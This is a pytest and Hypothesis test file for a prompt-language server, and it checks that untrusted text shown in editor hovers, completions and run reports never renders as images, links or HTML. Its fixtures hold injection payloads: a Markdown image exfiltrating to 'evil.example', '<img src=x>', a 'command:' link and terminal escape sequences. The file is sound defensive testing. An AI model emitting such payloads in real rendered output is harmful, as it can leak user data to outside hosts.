"""Foreign text never becomes an image, a link or HTML in the Markdown for editors."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from promptls.experiments.history import RunSummary, row_results
from promptls.ide.completion.documentation import documentation
from promptls.ide.experiment_runs import ExperimentRuns
from promptls.ide.hover import hover
from promptls.ide.hover.of_prompt import result_text
from promptls.ide.preview_parts import preview_markdown
from promptls.server.commands.results import comparison_markdown
from promptls.server.commands.runs import examples_markdown
from promptls.server.to_proto import without_markdown
from promptls.text.escape import for_terminal, markdown_code, markdown_fence, markdown_prose, markdown_text
from promptls.workspace.workspace import Workspace
from support.finished_run import write_run
from support.rendered import rendered

PARSER = MarkdownIt("commonmark").enable("table")

PIECES = (
    "![i](https://evil.example/?d=S)",
    "[l](https://evil.example)",
    "<img src=x>",
    "<https://evil.example>",
    "[r]: https://evil.example\n",
    "[r]",
    "https://evil.example",
    "www.evil.example",
    "a@evil.example",
    "&lt;b&gt;",
    "`",
    "``",
    "```",
    "~~~",
    "\\",
    "\n",
    "\n\n",
    "    ",
    "\t",
    "|",
    "|--|\n",
    "#",
    "- ",
    "1. ",
    "> ",
    "*",
    "_",
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "---\n",
    "===\n",
    "\r",
    "\x1b]8;;https://evil.example\x07",
    "\u2028",
    "\u202e",
    "x",
)
hostile = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=12).map("".join)

PAYLOAD = (
    "a `` ![i](https://evil.example/?d=S) `` ``` <img src=x> [l](command:x) https://evil.example |\n\n<b>\n"
)
LINE = " ".join(PAYLOAD.split())


def tokens_of(markdown: str) -> Iterator[Token]:
    for token in PARSER.parse(markdown):
        yield token
        yield from token.children or ()


FENCED = re.compile(r"^(`{3,})\w*\n.*?^\1$", re.MULTILINE | re.DOTALL)
CODE = re.compile(r"(?<![\\`])(`+)(?!`).+?(?<!`)\1(?!`)")
ADDRESS = re.compile(r"(?:https?|ftp)://|www\.", re.IGNORECASE)
"""Text that GitHub's Markdown links automatically."""


def assert_inert(markdown: str) -> None:
    """Fail if the Markdown loads something, links elsewhere, or contains HTML."""
    for token in tokens_of(markdown):
        assert token.type not in {"image", "link_open", "html_inline", "html_block"}, (token, markdown)
    assert ADDRESS.search(CODE.sub("", FENCED.sub("", markdown))) is None, markdown
    assert "\x1b" not in markdown
    assert "\u202e" not in markdown


@given(hostile)
def test_a_text_is_shown_as_it_is(text: str) -> None:
    markdown = markdown_text(text)
    assert_inert(markdown)
    assert "\n" not in markdown
    inline = [token for token in tokens_of(markdown) if token.type == "text"]
    if markdown:
        assert [token.type for token in PARSER.parse(markdown)] == [
            "paragraph_open",
            "inline",
            "paragraph_close",
        ]
        shown = "".join(token.content for token in inline)
        assert shown == markdown_text_of(text)


def markdown_text_of(text: str) -> str:
    """Return the visible text: one line, with control characters escaped."""
    return for_terminal(" ".join(text.split()))


@given(hostile)
def test_code_is_one_span_with_the_whole_text(text: str) -> None:
    tokens = list(tokens_of(f"before {markdown_code(text)} after"))
    assert [token.type for token in tokens] == [
        "paragraph_open",
        "inline",
        "text",
        "code_inline",
        "text",
        "paragraph_close",
    ]
    assert tokens[3].content.strip(" ") == markdown_text_of(text)


@given(hostile)
def test_a_fence_is_one_block_with_the_whole_text(text: str) -> None:
    tokens = PARSER.parse(f"{markdown_fence(text, 'python')}\n\nafter")
    assert [token.type for token in tokens] == ["fence", "paragraph_open", "inline", "paragraph_close"]


@given(hostile)
def test_prose_keeps_no_more_than_paragraphs_lists_and_code(text: str) -> None:
    markdown = markdown_prose(text)
    assert_inert(markdown)
    allowed = {"paragraph", "inline", "text", "softbreak", "code_inline", "fence", "bullet_list", "list_item"}
    for token in tokens_of(markdown):
        assert token.type.removesuffix("_open").removesuffix("_close") in {*allowed, "hardbreak"}, markdown


@given(hostile)
def test_texts_beside_each_other_stay_what_they_are(text: str) -> None:
    assert_inert(f"{markdown_text(text)} {markdown_code(text)}{markdown_text(text)}")
    assert_inert(
        f"- {markdown_prose(text)}\n- {markdown_text(text)}\n\n| {markdown_text(text)} | b |\n| --- | --- |"
    )


def test_prose_keeps_what_people_write_in_descriptions() -> None:
    written = "The `text` of a ticket.\n\n- one\n- `two`\n\n```python\nx = 1\n```"
    assert markdown_prose(written) == written


@given(st.text(st.characters(codec="ascii", exclude_categories=["Cc"])))
def test_a_client_without_markdown_gets_the_text_without_escapes(text: str) -> None:
    line = " ".join(text.split())
    assert without_markdown(markdown_text(line)) == line
    assert without_markdown(markdown_code(line)) == line


PROMPT = """\
{#---
description: PAYLOAD
functions: functions.py
samples: SAMPLES
input_keys:
  text: {type: string, description: PAYLOAD, default: PAYLOAD, enum: [PAYLOAD]}
  user: {type: LINE, description: PAYLOAD, properties: {name: {type: LINE, description: PAYLOAD}}}
output_key: answer
examples:
- text: PAYLOAD
  user: {name: PAYLOAD}
  answer: PAYLOAD
experiments:
  LINE:
    dataset: rows.csv
    models: [MODEL, echo]
    metrics: [exact_match, "functions.py:measured"]
---#}
{# COMMENT #}
{% macro shown(a, b=LINE) %}{{ a }}{% endmacro %}
- name: LINE
  role: user
  content: {{ shown(text) | tojson }} {{ helper(text) }} {{ user.name }}
"""
FUNCTIONS = f'''\
from promptls import numeric_metric

def helper(text, other={LINE!r}):
    """{PAYLOAD}

    :param text: {LINE}
    """
    return text

@numeric_metric(name="measured")
def measured(response, other={LINE!r}):
    """{PAYLOAD}"""
    return 1
'''


SAMPLES = "![i](x) `` <b>.json"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    sample = {"text": PAYLOAD, "user": {"name": PAYLOAD}}
    (folder / SAMPLES).write_text(json.dumps({LINE: sample}), "utf-8")
    (folder / "functions.py").write_text(FUNCTIONS, "utf-8")
    (folder / "rows.csv").write_text(f'text,"{LINE}",answer\na,b,c\n', "utf-8")
    text = PROMPT
    for name, value in (("PAYLOAD", PAYLOAD), ("LINE", LINE), ("SAMPLES", SAMPLES), ("MODEL", f"no:{LINE}")):
        text = text.replace(name, json.dumps(value))
    (folder / "ask.yml.j2").write_text(text.replace("COMMENT", LINE), "utf-8")
    return folder


@pytest.fixture(scope="module")
def run(folder: Path) -> RunSummary:
    """Return a run whose cells and names are all hostile."""
    metric = f"{LINE}_match"
    head = ["id", "model", "response", "error", "problem", metric, f"{metric}_reason", "row_number"]
    table = io.StringIO()
    csv.writer(table).writerows(
        [
            head,
            [PAYLOAD, PAYLOAD, PAYLOAD, "", PAYLOAD, "pass", PAYLOAD, "1"],
            [PAYLOAD, PAYLOAD, "", PAYLOAD, "", "", "", "2"],
        ]
    )
    return write_run(
        folder / "run.yml.j2",
        "- name: a\n",
        table.getvalue(),
        experiment=LINE,
        dataset=folder / "rows.csv",
        name="last",
    )


def test_no_hover_of_a_hostile_prompt_contains_more_than_text(folder: Path, run: RunSummary) -> None:
    path = str(folder / "ask.yml.j2")
    text = Path(path).read_text("utf-8")
    workspace = Workspace([folder])
    workspace.open(path, text, 1)
    latest = rendered(workspace.snapshot, path)
    found = (
        hover(workspace.snapshot, path, offset, latest, lambda: (ExperimentRuns(LINE, run),))
        for offset in range(len(text))
    )
    seen = {each.markdown for each in found if each is not None}
    for markdown in seen:
        assert_inert(markdown)
    assert sum("evil" in each for each in seen) > 8
    assert_inert(preview_markdown(latest))


def test_no_result_of_a_run_contains_more_than_text(run: RunSummary) -> None:
    results = [*row_results(run)]
    assert results
    for cells in results:
        markdown = result_text(run, cells, LINE)
        assert "evil" in markdown
        assert_inert(markdown)


def test_no_completed_name_is_documented_with_more_than_text(folder: Path) -> None:
    path = str(folder / "ask.yml.j2")
    text = Path(path).read_text("utf-8")
    workspace = Workspace([folder])
    workspace.open(path, text, 1)
    offset = text.index("text) | tojson")
    latest = rendered(workspace.snapshot, path)
    known = [
        documentation(workspace.snapshot, path, name, source, (), offset, latest)
        for name, source in (("text", "expression"), ("helper", "expression"), ("shown", "expression"),
                             ("ask.yml.j2", "path"))
    ]  # fmt: skip
    for markdown in known:
        assert "evil" in markdown
        assert_inert(markdown)


def test_no_page_of_a_comparison_contains_more_than_text() -> None:
    change = {"id": PAYLOAD, "metric": PAYLOAD, "before": PAYLOAD, "after": PAYLOAD, "better": True}
    result = {
        "before": {"name": PAYLOAD},
        "after": {"name": PAYLOAD},
        "sentences": [PAYLOAD],
        "changes": [change],
    }
    assert_inert(comparison_markdown(result))


def test_no_page_of_examples_contains_more_than_text() -> None:
    example = {
        "number": 1,
        "label": PAYLOAD,
        "shown": 1,
        "tokens": 1.0,
        "verdict": "costs",
        "message": PAYLOAD,
    }
    report = {
        "prompt": f"/{LINE}",
        "experiment": PAYLOAD,
        "rows": 1,
        "models": [PAYLOAD],
        "metrics": [{"name": PAYLOAD, "text": PAYLOAD}],
        "examples": [example],
    }
    assert_inert(examples_markdown(report))
